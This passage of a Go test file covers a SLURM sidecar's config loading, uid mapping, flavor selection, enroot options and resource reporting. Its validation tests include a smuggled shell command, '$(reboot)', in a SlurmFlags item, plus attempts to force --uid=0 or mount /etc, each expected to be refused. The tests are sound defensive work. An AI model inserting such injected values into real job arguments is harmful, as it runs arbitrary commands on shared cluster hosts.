package slurm

import (
	"context"
	"errors"
	"fmt"
	"io"
	"maps"
	"os"
	"os/user"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	corev1 "k8s.io/api/core/v1"
	"k8s.io/apimachinery/pkg/api/resource"

	"github.com/seed-3f807049/interlink/functions/api"
	"github.com/seed-3f807049/interlink/observability/config"
	"github.com/seed-3f807049/interlink/observability/e2eenv"
)

// asEUID makes the sidecar believe it runs as uid for the test.
func asEUID(t *testing.T, uid int) {
	t.Helper()
	old := geteuid
	geteuid = func() int { return uid }
	t.Cleanup(func() { geteuid = old })
}

// TestOriginalSlurmConfigFile: the original SLURM plugin's config file (a
// flavors map, ContainerRuntime, Socket, DefaultUID, a relative
// DataRootFolder...) is refused by the default config only for DefaultUID,
// naming AllowedUIDs; with AllowedUIDs set (here in the environment, the
// file unchanged) it loads with the original's meaning, and the keys
// without effect are warned about.
func TestOriginalSlurmConfigFile(t *testing.T) {
	asEUID(t, 0)
	file, err := filepath.Abs(filepath.Join("testdata", "original", "SlurmConfig.yaml"))
	if err != nil {
		t.Fatal(err)
	}
	work := t.TempDir()
	t.Chdir(work)

	cfg := DefaultConfig()
	_, err = config.Load(&cfg, file)
	if err == nil || !strings.Contains(err.Error(), "DefaultUID 1000 is not within AllowedUIDs") {
		t.Fatalf("the original file with the default config: %v, want a refusal naming AllowedUIDs", err)
	}

	t.Setenv("INTERLINK_SLURM_ALLOWED_UIDS", "1000-2999")
	cfg = DefaultConfig()
	unknown, err := config.Load(&cfg, file)
	if err != nil {
		t.Fatal(err)
	}
	if len(unknown) > 0 {
		t.Errorf("keys of the original unknown to ours: %v", unknown)
	}
	if cfg.Runtime != RuntimeEnroot {
		t.Errorf("ContainerRuntime enroot gave Runtime %q", cfg.Runtime)
	}
	if got := cfg.ListenAddr(); got != "/tmp/interlink-test/plugin.sock" {
		t.Errorf("Socket unix:///tmp/interlink-test/plugin.sock (with SidecarPort 4000) serves on %q", got)
	}
	if want := filepath.Join(work, ".local/interlink/jobs"); cfg.DataRootFolder != want {
		t.Errorf("relative DataRootFolder became %q, want %q (the working directory's)", cfg.DataRootFolder, want)
	}
	if cfg.DefaultUID != UID(1000) || cfg.BashPath != "/bin/bash" || cfg.ResourceScriptPath != "/opt/interlink/resources.sh" {
		t.Errorf("DefaultUID, BashPath, ResourceScriptPath: %v %q %q", cfg.DefaultUID, cfg.BashPath, cfg.ResourceScriptPath)
	}
	if diff := cmp.Diff([]api.Taint{{Key: "site.example/slurm", Value: "true", Effect: "NoSchedule"}}, cfg.Taints); diff != "" {
		t.Errorf("Taints (-want +got):\n%s", diff)
	}
	var names []string
	for _, f := range cfg.Flavors {
		names = append(names, f.Name)
	}
	if diff := cmp.Diff([]string{"default", "gpu-nvidia", "high-io"}, names); diff != "" {
		t.Errorf("flavors, in the order of their names (-want +got):\n%s", diff)
	}
	gpu := cfg.Flavors[1]
	if fl, err := gpu.flags(); err != nil || !slices.Contains(fl, "--time=04:00:00") {
		t.Errorf("SlurmFlags \"--time 04:00:00\": %v %v", fl, err)
	}
	if m, _ := cfg.Flavors[2].memory(); m.Value() != 32000<<20 {
		t.Errorf("MemoryDefault 32000M is %d bytes", m.Value())
	}
	want := []string{"EnableProbes has no effect", "EnrootPrefix has no effect", "Namespace has no effect", "VKConfigPath has no effect"}
	got := cfg.Warnings()
	if len(got) != len(want) {
		t.Fatalf("warnings %q, want %d", got, len(want))
	}
	for i := range want {
		if !strings.HasPrefix(got[i], want[i]) {
			t.Errorf("warning %q, want %q...", got[i], want[i])
		}
	}
}

// TestOriginalConfigRefusals: original keys whose values ours cannot honor
// stop the load, each naming the key.
func TestOriginalConfigRefusals(t *testing.T) {
	asEUID(t, 1000)
	tests := []struct {
		name string
		yaml string
		want string
	}{
		{"runtime", "ContainerRuntime: docker", `ContainerRuntime "docker": want singularity or enroot`},
		{"runtime and ContainerRuntime", "ContainerRuntime: enroot\nRuntime: podman", `ContainerRuntime "enroot" and Runtime "podman" disagree`},
		{"tcp socket", "Socket: tcp://0.0.0.0:4000", `Socket "tcp://0.0.0.0:4000": want unix:///absolute/path`},
		{"negative DefaultUID", "DefaultUID: -1\nAllowedUIDs: ['0-10']", `DefaultUID -1 is negative`},
		{"uid as non-root", "AllowedUIDs: ['1000-1999']", `sbatch --uid needs the sidecar to run as root, and it runs as uid 1000`},
		{"flavor uid", "AllowedUIDs: ['1000']\nFlavors: {a: {UID: 0}}", `Flavors[a].UID 0 is not within AllowedUIDs`},
		{"bad range", "AllowedUIDs: ['10-1']", `AllowedUIDs: "10-1"`},
		{"memory", "Flavors: {a: {MemoryDefault: 16X}}", `MemoryDefault: "16X"`},
		{"negative cpu", "Flavors: {a: {CPUDefault: -2}}", `CPUDefault -2 is negative`},
		{"flag not an option", "Flags: []\nFlavors: {a: {SlurmFlags: [partition=cpu]}}", `"partition=cpu" is not an option`},
		{"flavor flag set by the sidecar", "Flavors: {a: {SlurmFlags: ['--uid=0']}}", `option --uid (--uid) is set by the sidecar`},
		{"unknown DefaultFlavor", "DefaultFlavor: x\nFlavors: {a: {}}", `DefaultFlavor "x" is not one of Flavors`},
		{"image prefix allow-list", "AllowedImageRoots: ['docker:// x']", `AllowedImageRoots: "docker:// x"`},
		{"enroot allow-list", "AllowedEnrootOptions: ['--mount ']", `AllowedEnrootOptions`},
		{"taint effect", "Taints: [{Key: a, Effect: Never}]", `Taints`},
		{"relative ResourceScriptPath", "ResourceScriptPath: res.sh", `ResourceScriptPath "res.sh" must be an absolute path`},
		// DefaultUID and flavor UIDs apply to every namespace.
		{"DefaultUID of a namespace", "AllowedUIDs: ['1000-1999']\nNamespaceUIDs: {team-a: 1100}\nDefaultUID: 1100",
			`DefaultUID 1100 is the uid NamespaceUIDs gives to namespace team-a`},
		{"flavor UID of a namespace", "AllowedUIDs: ['1000-1999']\nNamespaceUIDs: {team-a: 1100, team-b: 1100}\nFlavors: {a: {UID: 1100}}",
			`Flavors[a].UID 1100 is the uid NamespaceUIDs gives to namespace team-a, team-b`},
		{"several options in one item, one reserved", "Flavors: {a: {SlurmFlags: ['--nodes 1 --uid 0']}}", `option --uid (--uid) is set by the sidecar`},
		{"a short option without a value, then a word", "Flavors: {a: {SlurmFlags: ['-s x']}}", `"x" is not an option`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			file := filepath.Join(t.TempDir(), "SlurmConfig.yaml")
			if err := os.WriteFile(file, []byte(tt.yaml+"\n"), 0o600); err != nil {
				t.Fatal(err)
			}
			cfg := DefaultConfig()
			if _, err := config.Load(&cfg, file); err == nil || !strings.Contains(err.Error(), tt.want) {
				t.Errorf("got %v, want an error containing %q", err, tt.want)
			}
		})
	}
}

func TestParseMemory(t *testing.T) {
	for in, want := range map[string]int64{"16G": 16 << 30, "16gb": 16 << 30, "32000M": 32000 << 20, "1024K": 1 << 20, "1024KB": 1 << 20, " 512 ": 512} {
		if got, err := parseMemory(in); err != nil || got != want {
			t.Errorf("parseMemory(%q) = %d, %v; want %d", in, got, err, want)
		}
	}
	for _, in := range []string{"16X", "G", "-1G", "1.5G", "99999999999G"} {
		if _, err := parseMemory(in); err == nil {
			t.Errorf("parseMemory(%q) took it", in)
		}
	}
}

// originalFlavors are the original example's flavors, as a map.
func originalFlavors(t *testing.T) Flavors {
	t.Helper()
	var f Flavors
	err := f.UnmarshalJSON([]byte(`{
		"default": {"CPUDefault": 4, "MemoryDefault": "16G", "SlurmFlags": ["--partition=cpu", "--time=01:00:00"]},
		"gpu-nvidia": {"CPUDefault": 8, "MemoryDefault": "64G", "SlurmFlags": ["--gres=gpu:1", "--partition=gpu"]},
		"gpu-quad": {"SlurmFlags": ["--gres=gpu:a100:4", "--partition=gpu"]},
		"high-io": {"CPUDefault": 2, "SlurmFlags": ["--constraint=highio"]}}`))
	if err != nil {
		t.Fatal(err)
	}
	return f
}

// TestOriginalFlavors: slurm-job.vk.io/flavor names a flavor of the map (an
// unknown one is a 400 listing them: the original only warned), a GPU pod
// gets the flavor whose --gres=gpu:N matches its count (else the first GPU
// flavor), others DefaultFlavor; CPUDefault and MemoryDefault apply when
// the pod asks for no resources.
func TestOriginalFlavors(t *testing.T) {
	noResources := func(p *corev1.Pod) {
		p.Spec.InitContainers = nil
		for i := range p.Spec.Containers {
			p.Spec.Containers[i].Resources = corev1.ResourceRequirements{}
		}
	}
	gpus := func(n string) func(p *corev1.Pod) {
		return func(p *corev1.Pod) {
			noResources(p)
			p.Spec.Containers[0].Resources.Limits = corev1.ResourceList{resourceNvidiaGPU: resource.MustParse(n)}
		}
	}
	tests := []struct {
		name       string
		annotation string
		pod        func(*corev1.Pod)
		want, not  []string
	}{
		{"default flavor", "", noResources, []string{"--cpus-per-task=4", "--mem=16384M", "--partition=cpu", "--time=01:00:00"}, []string{"--gres"}},
		{"named", "high-io", noResources, []string{"--cpus-per-task=2", "--constraint=highio"}, []string{"--mem=", "--partition=cpu"}},
		{"pod limits win", "high-io", nil, []string{"--cpus-per-task=2", "--mem=1024M"}, nil},
		{"one gpu", "", gpus("1"), []string{"--cpus-per-task=8", "--mem=65536M", "--gres=gpu:1", "--partition=gpu"}, []string{"gpu:a100"}},
		{"four gpus", "", gpus("4"), []string{"--gres=gpu:a100:4"}, []string{"--cpus-per-task"}},
		{"three gpus: the first gpu flavor", "", gpus("3"), []string{"--gres=gpu:3", "--gres=gpu:1", "--cpus-per-task=8"}, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			cfg := testConfig(t)
			cfg.Flavors, cfg.DefaultFlavor = originalFlavors(t), "default"
			if err := cfg.Validate(); err != nil {
				t.Fatal(err)
			}
			data := testPod()
			if tt.annotation != "" {
				data.Pod.Annotations[AnnotationFlavorOriginal] = tt.annotation
			}
			if tt.pod != nil {
				tt.pod(&data.Pod)
			}
			j, err := buildJob(&cfg, nil, data, "/d")
			if err != nil {
				t.Fatal(err)
			}
			for _, w := range tt.want {
				if !slices.Contains(j.args, w) {
					t.Errorf("sbatch %q: want %s", j.args, w)
				}
			}
			for _, w := range tt.not {
				if strings.Contains(strings.Join(j.args, " "), w) {
					t.Errorf("sbatch %q: want no %s", j.args, w)
				}
			}
		})
	}

	cfg := testConfig(t)
	cfg.Flavors = originalFlavors(t)
	for ann, want := range map[string]string{
		AnnotationFlavorOriginal: `annotation slurm-job.vk.io/flavor: no flavor "huge" (Flavors in the sidecar's config has: default, gpu-nvidia, gpu-quad, high-io)`,
		AnnotationFlavor:         `annotation interlink.io/flavor: no flavor "huge"`,
	} {
		data := testPod()
		data.Pod.Annotations[ann] = "huge"
		if _, err := buildJob(&cfg, nil, data, "/d"); api.ReasonOf(err) != api.ReasonInvalid || !strings.Contains(err.Error(), want) {
			t.Errorf("%s=huge: %v, want a 400 containing %q", ann, err, want)
		}
	}
	data := testPod()
	data.Pod.Annotations[AnnotationFlavorOriginal], data.Pod.Annotations[AnnotationFlavor] = "default", "high-io"
	if _, err := buildJob(&cfg, nil, data, "/d"); api.ReasonOf(err) != api.ReasonInvalid || !strings.Contains(err.Error(), "disagree") {
		t.Errorf("two flavor annotations that disagree: %v", err)
	}
}

// TestEmptyFlavorAnnotation: an empty flavor annotation (either spelling)
// names no flavor: DefaultFlavor applies, and an empty one beside a named
// one does not disagree.
func TestEmptyFlavorAnnotation(t *testing.T) {
	cfg := testConfig(t)
	cfg.Flavors, cfg.DefaultFlavor = originalFlavors(t), "high-io"
	for _, anns := range []map[string]string{
		{AnnotationFlavor: ""},
		{AnnotationFlavorOriginal: ""},
		{AnnotationFlavor: "", AnnotationFlavorOriginal: ""},
	} {
		data := testPod()
		data.Pod.Spec.Containers[0].Resources.Limits = nil // no GPU flavor
		maps.Copy(data.Pod.Annotations, anns)
		j, err := buildJob(&cfg, nil, data, "/d")
		if err != nil || !slices.Contains(j.args, "--constraint=highio") {
			t.Errorf("%v: %v, want DefaultFlavor high-io", anns, err)
		}
	}
	for _, anns := range []map[string]string{
		{AnnotationFlavor: "", AnnotationFlavorOriginal: "default"},
		{AnnotationFlavor: "default", AnnotationFlavorOriginal: ""},
	} {
		data := testPod()
		maps.Copy(data.Pod.Annotations, anns)
		j, err := buildJob(&cfg, nil, data, "/d")
		if err != nil || !slices.Contains(j.args, "--partition=cpu") {
			t.Errorf("%v: %v, want flavor default", anns, err)
		}
	}
}

// TestGPUFlavorMarked: when some flavors have GPU: true, a GPU pod gets one
// of them, never a flavor that only mentions gpu in its name or flags
// (--constraint=nogpu); the heuristic is for the original's map form.
func TestGPUFlavorMarked(t *testing.T) {
	cfg := testConfig(t)
	cfg.Flavors = Flavors{
		{Name: "cpu-only", Flags: []string{"--constraint=nogpu"}},
		{Name: "gpu-small", Flags: []string{"--gres=gpu:1"}},
		{Name: "accel", GPU: true, Flags: []string{"--constraint=a100"}},
	}
	data := testPod() // one nvidia.com/gpu
	j, err := buildJob(&cfg, nil, data, "/d")
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Contains(j.args, "--constraint=a100") || slices.Contains(j.args, "--constraint=nogpu") {
		t.Errorf("sbatch %q: want the GPU: true flavor accel", j.args)
	}
	// Without any GPU: true, the name and flags decide, as the original.
	cfg.Flavors = cfg.Flavors[:2]
	if j, err = buildJob(&cfg, nil, data, "/d"); err != nil || !slices.Contains(j.args, "--gres=gpu:1") {
		t.Errorf("sbatch %q (%v): want gpu-small, whose --gres=gpu:1 matches", j.args, err)
	}
}

// TestSlurmFlagsSeveralOptions: a SlurmFlags item holding several options,
// as an #SBATCH line may, becomes several options, each checked.
func TestSlurmFlagsSeveralOptions(t *testing.T) {
	for item, want := range map[string][]string{
		"--nodes 1 --ntasks 4":            {"--nodes=1", "--ntasks=4"},
		"--exclusive --time 01:00:00":     {"--exclusive", "--time=01:00:00"},
		"-N 2 -n 4 --nice -5":             {"-N2", "-n4", "--nice=-5"},
		"--time 01:00:00":                 {"--time=01:00:00"},
		`--constraint 'a100|h100' -p gpu`: {"--constraint=a100|h100", "-pgpu"},
	} {
		f := Flavor{Name: "x", SlurmFlags: []string{item}}
		got, err := f.flags()
		if err != nil {
			t.Errorf("%q: %v", item, err)
			continue
		}
		if diff := cmp.Diff(want, got); diff != "" {
			t.Errorf("%q (-want +got):\n%s", item, diff)
		}
	}
	for item, msg := range map[string]string{
		"--nodes 1 --uid 0":     "option --uid (--uid) is set by the sidecar",
		"--nodes 1 -o /tmp/x":   "option -o is set by the sidecar",
		"--nodes 1 $(reboot)":   "would be expanded",
		"--nodes 1 --out=/x":    "option --out (--output) is set by the sidecar",
		"--ntasks 4 stray word": `"stray" is not an option`,
	} {
		f := Flavor{Name: "x", SlurmFlags: []string{item}}
		if _, err := f.flags(); err == nil || !strings.Contains(err.Error(), msg) {
			t.Errorf("%q: %v, want an error containing %q", item, err, msg)
		}
	}
}

// TestJobUID: runAsUser, else the namespace's uid, else the flavor's UID,
// else DefaultUID becomes sbatch --uid, within AllowedUIDs; the default
// config refuses any uid but the sidecar's own, naming AllowedUIDs.
func TestJobUID(t *testing.T) {
	asEUID(t, 0)
	i64 := func(v int64) *int64 { return &v }
	tests := []struct {
		name      string
		config    func(*Config)
		runAsUser *int64
		flavor    string
		want      string // the --uid argument, "" for none, or "error: ..."
	}{
		{"no uid anywhere", nil, nil, "", ""},
		{"runAsUser refused by default", nil, i64(1000), "", "error: needs AllowedUIDs in the sidecar's config"},
		{"runAsUser of the sidecar's own account", nil, i64(0), "", ""},
		{"runAsUser in range", func(c *Config) { c.AllowedUIDs = []string{"1000-1999"} }, i64(1500), "", "--uid=1500"},
		{"runAsUser out of range", func(c *Config) { c.AllowedUIDs = []string{"1000-1999"} }, i64(2000), "", "error: securityContext.runAsUser 2000 is not within AllowedUIDs"},
		{"root not in range", func(c *Config) { c.AllowedUIDs = []string{"1000-1999"} }, i64(0), "", "error: securityContext.runAsUser 0 is not within AllowedUIDs"},
		{"root listed", func(c *Config) { c.AllowedUIDs = []string{"0", "1000-1999"} }, i64(0), "", "--uid=0"},
		{"DefaultUID", func(c *Config) { c.AllowedUIDs, c.DefaultUID = []string{"1000-1999"}, UID(1001) }, nil, "", "--uid=1001"},
		{"flavor UID before DefaultUID", func(c *Config) {
			c.AllowedUIDs, c.DefaultUID = []string{"1000-1999"}, UID(1001)
			c.Flavors = Flavors{{Name: "tenant", UID: i64(1234)}}
		}, nil, "tenant", "--uid=1234"},
		{"runAsUser before flavor UID", func(c *Config) {
			c.AllowedUIDs = []string{"1000-1999"}
			c.Flavors = Flavors{{Name: "tenant", UID: i64(1234)}}
		}, i64(1777), "tenant", "--uid=1777"},
		{"namespace uid", func(c *Config) {
			c.AllowedUIDs, c.DefaultUID = []string{"1000-1999"}, UID(1001)
			c.NamespaceUIDs = map[string]int64{"team-a": 1100}
		}, nil, "", "--uid=1100"},
		{"namespace uid and the same runAsUser", func(c *Config) {
			c.AllowedUIDs, c.NamespaceUIDs = []string{"1000-1999"}, map[string]int64{"team-a": 1100}
		}, i64(1100), "", "--uid=1100"},
		{"namespace uid and another runAsUser", func(c *Config) {
			c.AllowedUIDs, c.NamespaceUIDs = []string{"1000-1999"}, map[string]int64{"team-a": 1100}
		}, i64(1200), "", "error: pods of namespace team-a run as uid 1100 (NamespaceUIDs"},
		// With AllowedUIDs the sidecar runs as root: a pod naming no uid
		// would run its job as root.
		{"AllowedUIDs and no uid anywhere", func(c *Config) { c.AllowedUIDs = []string{"1000-1999"} }, nil, "",
			"error: the pod names no uid, and with AllowedUIDs set in the sidecar's config (which runs as root) every job needs one: set securityContext.runAsUser within AllowedUIDs, or have the operator set NamespaceUIDs[team-a] or DefaultUID"},
		{"AllowedUIDs and a flavor without UID", func(c *Config) {
			c.AllowedUIDs, c.Flavors = []string{"1000-1999"}, Flavors{{Name: "plain"}}
		}, nil, "plain", "error: the pod names no uid"},
		// Another tenant's uid, bound to its namespace.
		{"runAsUser of another namespace's uid", func(c *Config) {
			c.AllowedUIDs, c.NamespaceUIDs = []string{"1000-1999"}, map[string]int64{"team-b": 1100}
		}, i64(1100), "", "error: securityContext.runAsUser 1100: that uid belongs to namespace team-b (NamespaceUIDs"},
		{"runAsUser of a uid no namespace holds", func(c *Config) {
			c.AllowedUIDs, c.NamespaceUIDs = []string{"1000-1999"}, map[string]int64{"team-b": 1100}
		}, i64(1200), "", "--uid=1200"},
		{"uid shared by two namespaces", func(c *Config) {
			c.AllowedUIDs, c.NamespaceUIDs = []string{"1000-1999"}, map[string]int64{"team-a": 1100, "team-b": 1100}
		}, nil, "", "--uid=1100"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			cfg := testConfig(t)
			if tt.config != nil {
				tt.config(&cfg)
			}
			if err := cfg.Validate(); err != nil {
				t.Fatal(err)
			}
			data := testPod()
			if tt.runAsUser != nil {
				data.Pod.Spec.SecurityContext = &corev1.PodSecurityContext{RunAsUser: tt.runAsUser}
			}
			if tt.flavor != "" {
				data.Pod.Annotations[AnnotationFlavorOriginal] = tt.flavor
			}
			j, err := buildJob(&cfg, nil, data, "/d")
			if msg, ok := strings.CutPrefix(tt.want, "error: "); ok {
				if api.ReasonOf(err) != api.ReasonInvalid || !strings.Contains(err.Error(), msg) {
					t.Fatalf("got %v, want a 400 containing %q", err, msg)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			i := slices.IndexFunc(j.args, func(a string) bool { return strings.HasPrefix(a, "--uid") })
			switch {
			case tt.want == "" && i >= 0:
				t.Errorf("sbatch %q: want no --uid", j.args)
			case tt.want != "" && (i < 0 || j.args[i] != tt.want):
				t.Errorf("sbatch %q: want %s", j.args, tt.want)
			}
		})
	}
}

// TestCreateGivesTheJobsFilesToItsUID: with sbatch --uid, the pod's
// directory, its files and the job's output belong to that uid.
func TestCreateGivesTheJobsFilesToItsUID(t *testing.T) {
	if os.Geteuid() != 0 {
		e2eenv.Prerequisite(t, "root, as sbatch --uid needs")
	}
	cfg, dir := fakeSlurm(t)
	// nobody, an account of every Debian: sbatch --uid needs one, and the
	// job takes its primary group (--gid), never the sidecar's.
	nobody, err := user.Lookup("nobody")
	if err != nil {
		t.Fatal(err)
	}
	uid, _ := strconv.ParseInt(nobody.Uid, 10, 64)
	gid, _ := strconv.ParseInt(nobody.Gid, 10, 64)
	cfg.AllowedUIDs = []string{nobody.Uid}
	s, err := New(t.Context(), cfg, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = s.Close() }()
	data := testPod()
	data.Pod.Spec.SecurityContext = &corev1.PodSecurityContext{RunAsUser: ptr(uid)}
	if _, err := s.Create(context.Background(), data); err != nil {
		t.Fatal(err)
	}
	args, err := os.ReadFile(filepath.Join(dir, "args.100"))
	if want := fmt.Sprintf("--uid=%d\n--gid=%d\n", uid, gid); err != nil || !strings.Contains(string(args), want) {
		t.Errorf("sbatch got %q (%v), want %q", args, err, want)
	}
	jobs := filepath.Join(dir, "jobs")
	if st, err := os.Stat(jobs); err != nil || st.Mode().Perm() != 0o711 {
		t.Errorf("DataRootFolder: %v %v, want mode 0711", st, err)
	}
	podDir := filepath.Join(jobs, "team-a-"+testUID)
	n := 0
	err = filepath.Walk(podDir, func(p string, fi os.FileInfo, err error) error {
		if err != nil {
			return err
		}
		n++
		if u, g := fileOwner(fi); u != uid || g != gid {
			t.Errorf("%s belongs to %d:%d, want %d:%d", p, u, g, uid, gid)
		}
		return nil
	})
	if err != nil || n < 5 {
		t.Errorf("walked %d files: %v", n, err)
	}
	if fi, err := os.Stat(podDir + outputSuffix); err != nil || fileUID(fi) != uid {
		t.Errorf("the job's output: %v, want it made for uid %d", err, uid)
	}
	// A uid without an account is refused: the job could take no group.
	data = testPod()
	data.Pod.UID = "other"
	cfg2, _ := fakeSlurm(t)
	cfg2.AllowedUIDs = []string{"4242"}
	s2, err := New(t.Context(), cfg2, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = s2.Close() }()
	data.Pod.Spec.SecurityContext = &corev1.PodSecurityContext{RunAsUser: ptr(int64(4242))}
	if _, err := s2.Create(context.Background(), data); api.ReasonOf(err) != api.ReasonInvalid || !strings.Contains(err.Error(), "has no account") {
		t.Errorf("a uid without an account: %v, want a 400 saying so", err)
	}
}

// TestEnrootAnnotations: enroot-options and enroot-mounts are refused by
// default naming the key to set; allowed, they reach enroot start as
// words, mounts as enroot's fstab-like --mount.
func TestEnrootAnnotations(t *testing.T) {
	for ann, want := range map[string]string{
		AnnotationEnrootOptions: "AllowedEnrootOptions in the sidecar's config is empty",
		AnnotationEnrootMounts:  `mount source "/scratch" is not under AllowedHostPaths`,
	} {
		cfg := testConfig(t)
		cfg.Runtime = RuntimeEnroot
		data := testPod()
		data.Pod.Annotations[ann] = map[string]string{AnnotationEnrootOptions: "--root", AnnotationEnrootMounts: "--mount /scratch:/s"}[ann]
		_, err := buildJob(&cfg, nil, data, "/d")
		if want == "" || api.ReasonOf(err) != api.ReasonInvalid || !strings.Contains(strings.ReplaceAll(err.Error(), "bind source", "mount source"), want) {
			t.Errorf("%s by default: %v, want a 400 containing %q", ann, err, want)
		}
	}
	cfg := testConfig(t)
	cfg.Runtime, cfg.AllowedEnrootOptions, cfg.AllowedHostPaths = RuntimeEnroot, []string{"--root", "--env="}, []string{"/scratch"}
	cfg.EnrootDefaultOptions = []string{"--rw", "--conf=/etc/enroot/site.conf"}
	data := testPod()
	data.Pod.Annotations[AnnotationEnrootOptions] = "--root --env FOO"
	data.Pod.Annotations[AnnotationEnrootMounts] = "--mount /scratch/a:/data:ro -m /scratch/b"
	j, err := buildJob(&cfg, nil, data, "/d")
	if err != nil {
		t.Fatal(err)
	}
	want := `enroot start --rw '--conf=/etc/enroot/site.conf' --root --env FOO --mount '/scratch/a /data none x-create=dir,bind,ro' --mount '/scratch/b /scratch/b none x-create=dir,bind'`
	if strings.Count(j.script, want) != 3 {
		t.Errorf("the script lacks %q:\n%s", want, j.script)
	}
	for v, msg := range map[string]string{
		"--mount '/scratch/a b:/x'": "no blank",
		"/scratch/a":                "only --mount",
		"--mount /etc:/x":           "AllowedHostPaths",
		"--root":                    "only --mount",
	} {
		data := testPod()
		data.Pod.Annotations[AnnotationEnrootMounts] = v
		if _, err := buildJob(&cfg, nil, data, "/d"); err == nil || !strings.Contains(err.Error(), msg) {
			t.Errorf("enroot-mounts %q: %v, want %q", v, err, msg)
		}
	}
}

// TestImageRootURIPrefix: slurm-job.vk.io/image-root given as a URI prefix
// is put before the pod's images, as the original, when the prefix is
// ImagePrefix or listed in AllowedImageRoots; images with a scheme or an
// absolute path are used as they are.
func TestImageRootURIPrefix(t *testing.T) {
	data := testPod()
	data.Pod.Annotations[AnnotationImageRoot] = "oras://ghcr.io/"
	cfg := testConfig(t)
	if _, err := buildJob(&cfg, nil, data, "/d"); api.ReasonOf(err) != api.ReasonInvalid || !strings.Contains(err.Error(), "AllowedImageRoots") {
		t.Errorf("an unlisted prefix: %v, want a 400 naming AllowedImageRoots", err)
	}
	for _, rt := range []string{RuntimeSingularity, RuntimeEnroot} {
		cfg := testConfig(t)
		cfg.Runtime = rt
		cfg.AllowedImageRoots = append(cfg.AllowedImageRoots, "oras://ghcr.io/")
		if err := cfg.Validate(); err != nil {
			t.Fatal(err)
		}
		data := testPod()
		data.Pod.Annotations[AnnotationImageRoot] = "oras://ghcr.io/"
		data.Pod.Spec.InitContainers[0].Image = "docker://busybox:1.36"
		j, err := buildJob(&cfg, nil, data, "/d")
		if err != nil {
			t.Fatal(err)
		}
		words := literalWords(t, j.script)
		for _, want := range []string{"oras://ghcr.io/ghcr.io/acme/app:v1", "docker://busybox:1.36", "/images/tools.sif"} {
			if rt == RuntimeEnroot && strings.HasPrefix(want, "oras") {
				want = "oras://ghcr.io/ghcr.io#acme/app:v1" // enroot's registry#image
			}
			if !words[want] {
				t.Errorf("%s: the script lacks the image %q", rt, want)
			}
		}
	}
	// ImagePrefix itself needs no listing; a prefix means nothing to podman.
	cfg = testConfig(t)
	data = testPod()
	data.Pod.Annotations[AnnotationImageRoot] = "docker://"
	if _, err := buildJob(&cfg, nil, data, "/d"); err != nil {
		t.Errorf("image-root docker:// (ImagePrefix): %v", err)
	}
	cfg.Runtime, cfg.AllowedImageRoots = RuntimePodman, []string{"docker://"}
	data = podmanTestPod()
	data.Pod.Annotations[AnnotationImageRoot] = "docker://"
	if _, err := buildJob(&cfg, nil, data, "/d"); err == nil || !strings.Contains(err.Error(), "not podman") {
		t.Errorf("a URI prefix with podman: %v", err)
	}
}

// TestResourceScriptAndTaints: ResourceScriptPath's output is the ping's
// resources; a script that says too much or too late fails the ping; the
// configured Taints go with every reply.
func TestResourceScriptAndTaints(t *testing.T) {
	dir := t.TempDir()
	script := func(name, body string) string {
		p := filepath.Join(dir, name)
		if err := os.WriteFile(p, []byte("#!/bin/sh\n"+body+"\n"), 0o755); err != nil {
			t.Fatal(err)
		}
		return p
	}
	cfg := DefaultConfig()
	cfg.CommandTimeout = config.D(2 * time.Second)
	cfg.Taints = []api.Taint{{Key: "site/slurm", Value: "x", Effect: "NoSchedule"}}
	s := &Sidecar{cfg: cfg, cmd: newCommands(&cfg)}
	s.cfg.ResourceScriptPath = script("ok.sh", `echo '{"resources": {"cpu": "128", "memory": "512Gi", "pods": "1000"}}'`)
	resp, err := s.Ping(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	if resp.Status != api.PingOK || resp.Resources == nil || resp.Resources.CPU != "128" || resp.Resources.Memory != "512Gi" {
		t.Errorf("ping %+v %+v", resp, resp.Resources)
	}
	if resp.Taints == nil || len(*resp.Taints) != 1 || (*resp.Taints)[0].Key != "site/slurm" {
		t.Errorf("taints %v", resp.Taints)
	}
	for name, body := range map[string]string{
		"big.sh":    `head -c 2000000 /dev/zero`,
		"slow.sh":   `sleep 10`,
		"fails.sh":  `exit 3`,
		"notjs.sh":  `echo CPU 12`,
		"stderr.sh": `echo oops >&2; exit 1`,
	} {
		s.cfg.ResourceScriptPath = script(name, body)
		s.cfg.CommandTimeout = config.D(500 * time.Millisecond)
		if _, err := s.Ping(context.Background()); api.ReasonOf(err) != api.ReasonUnavailable || !strings.Contains(err.Error(), "ResourceScriptPath") {
			t.Errorf("%s: %v, want an Unavailable error naming ResourceScriptPath", name, err)
		}
	}
}

// fileUID is the owner of a file.
func fileOwner(fi os.FileInfo) (uid, gid int64) {
	if st, ok := fi.Sys().(*syscall.Stat_t); ok {
		return int64(st.Uid), int64(st.Gid)
	}
	return -1, -1
}

func fileUID(fi os.FileInfo) int64 {
	if st, ok := fi.Sys().(*syscall.Stat_t); ok {
		return int64(st.Uid)
	}
	return -1
}

// TestOriginalSlurmEnv: the original SLURM plugin's environment variables
// override the file's keys, as in the original.
func TestOriginalSlurmEnv(t *testing.T) {
	dir := t.TempDir()
	file := filepath.Join(dir, "SlurmConfig.yaml")
	if err := os.WriteFile(file, []byte("SbatchPath: /usr/bin/sbatch\nSocket: ''\nAuth: {Insecure: true}\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	t.Setenv("SLURMCONFIGPATH", file)
	flags, err := config.ParseFlags("interlink-slurm", nil, os.Getenv("SLURMCONFIGPATH"))
	if err != nil || flags.Path != file {
		t.Fatalf("SLURMCONFIGPATH: %+v %v", flags, err)
	}
	for k, v := range map[string]string{"SIDECARPORT": "4001", "SBATCHPATH": "/opt/slurm/bin/sbatch", "SCANCELPATH": "/opt/slurm/bin/scancel",
		"SINFOPATH": "/opt/slurm/bin/sinfo", "SINGULARITYPATH": "/opt/apptainer/bin/singularity", "TSOCKS": "true",
		"TSOCKSPATH": "/usr/lib/libtsocks.so", "TSOCKSLOGINNODE": "login01", "SHARED_FS": "false"} {
		t.Setenv(k, v)
	}
